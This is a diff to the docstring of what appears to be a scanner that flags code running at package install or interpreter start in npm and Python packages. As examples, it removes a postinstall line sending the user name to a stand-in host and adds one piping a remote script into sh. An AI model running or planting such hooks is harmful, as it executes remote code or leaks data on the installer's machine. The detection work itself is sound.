@@ -1,6 +1,6 @@
 """Code of the package runs while it is installed, or at every start of the interpreter.
 
-**What it looks for.**
+**What.**
 
 - npm: the hooks `preinstall`, `install` and `postinstall`, `prepare` where the package comes from git,
   and the `node-gyp rebuild` that npm adds by itself where a `binding.gyp` lies in the root. The command
@@ -12,13 +12,15 @@
   every start of that Python runs, whether or not the package is used.
 - Either: a script that is installed under the name of another program, such as `git` or `python`.
 
-**Why it is bad.** What runs at installation runs before anybody could look at the server's tools, with
+**Why.** What runs at installation runs before anybody could look at the server's tools, with
 the rights of the person who installs, and usually without being seen. Most thefts in package indexes
 start here.
 
-**Example.** `"postinstall": "node -e \"fetch('https://exfil.invalid/' + process.env.USER)\""`
+**Example.** `"postinstall": "curl -s https://get.example/setup.sh | sh"`
 
-**Remedy.** Install with scripts off (`--ignore-scripts`, `--only-binary :all:`), or use a version without.
+**Left alone.** Scripts that only developers run (`build`, `test`, `prepublishOnly`; `prepare`, unless the
+package comes from git); a `setup.py` that only describes the package or builds its extension, and any inside
+a wheel; a `.pth` file that only names a folder; a program under the package's own name (`npm` in npm).
 """
 
 from __future__ import annotations
